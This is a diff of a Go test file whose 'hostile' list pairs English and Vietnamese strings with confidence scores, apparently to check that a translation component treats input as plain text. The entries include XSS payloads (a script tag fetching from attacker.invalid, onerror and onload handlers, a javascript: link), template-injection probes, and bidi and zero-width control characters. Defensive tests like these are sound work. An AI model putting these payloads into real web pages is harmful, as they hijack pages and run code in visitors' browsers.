@@ -12,7 +12,7 @@ import (
 // but text.
 var hostile = []pair{
 	{en: []string{`<script>document.title = "taken"; fetch("http://attacker.invalid/script")</script>`}, vi: []string{`<img src="http://attacker.invalid/x.png" onerror="document.title='taken'">`}, confidence: .4},
-	{en: []string{`</textarea><svg onload="document.title='taken'"><a href="javascript:alert(1)">here</a>`}, vi: []string{"‮ngược ‏chiều‬ và ⁦cô lập⁩​."}, confidence: .5},
+	{en: []string{`</textarea><svg onload="document.title='taken'"><a href="javascript:alert(1)">here</a>`}, vi: []string{"\u202engược \u200fchiều\u202c và \u2066cô lập\u2069\u200b."}, confidence: .5},
 	{en: []string{strings.Repeat("a very long sentence without an end, ", 290)}, vi: []string{strings.Repeat("dài", 4000)}, confidence: .6},
 	{en: []string{"A quiet sentence at the end."}, vi: []string{"Một câu yên ả ở cuối."}, confidence: .99},
 	{en: []string{"&lt;b&gt; &amp; {{7*7}} ${7*7} %s"}, vi: []string{"\U0001F6A3\U0001F3FD thuyền \U0001F4DA sách"}, confidence: .95},
